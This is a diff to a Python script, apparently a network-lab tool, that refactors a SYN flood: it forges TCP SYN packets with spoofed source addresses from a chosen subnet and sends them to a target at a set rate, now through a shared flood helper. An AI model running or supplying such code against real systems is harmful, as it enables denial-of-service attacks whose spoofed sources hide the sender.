@@ -5,16 +5,11 @@
 NETWORK is the first three numbers of an IPv4 network. Prints "sent N" at the end.
 """
 
-import itertools
-import signal
 import socket
 import struct
-import sys
-import time
 
 from lab import UsageError
-
-PAUSE_S = 0.01
+from lab.probes import flood
 
 
 def checksum(data: bytes) -> int:
@@ -36,22 +31,12 @@ def syn(source: bytes, target: bytes, from_port: int, port: int, sequence: int) 
 def main(words: list[str]) -> None:
     match words:
         case [address, port, rate, network]:
-            raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
             target = socket.inet_aton(address)
-            sent = 0
 
-            def end(*_: object) -> None:
-                print(f"sent {sent}", flush=True)
-                sys.exit(0)
+            def forged(number: int) -> bytes:
+                source = socket.inet_aton(f"{network}.{2 + number % 250}")
+                return syn(source, target, 1024 + number % 60000, int(port), number & 0xFFFFFFFF)
 
-            signal.signal(signal.SIGTERM, end)
-            begun = time.monotonic()
-            for turn in itertools.count(1):
-                while sent < turn * PAUSE_S * int(rate):
-                    source = socket.inet_aton(f"{network}.{2 + sent % 250}")
-                    packet = syn(source, target, 1024 + sent % 60000, int(port), sent & 0xFFFFFFFF)
-                    raw.sendto(packet, (address, 0))
-                    sent += 1
-                time.sleep(max(0.0, begun + turn * PAUSE_S - time.monotonic()))
+            flood(address, int(rate), forged)
         case _:
             raise UsageError
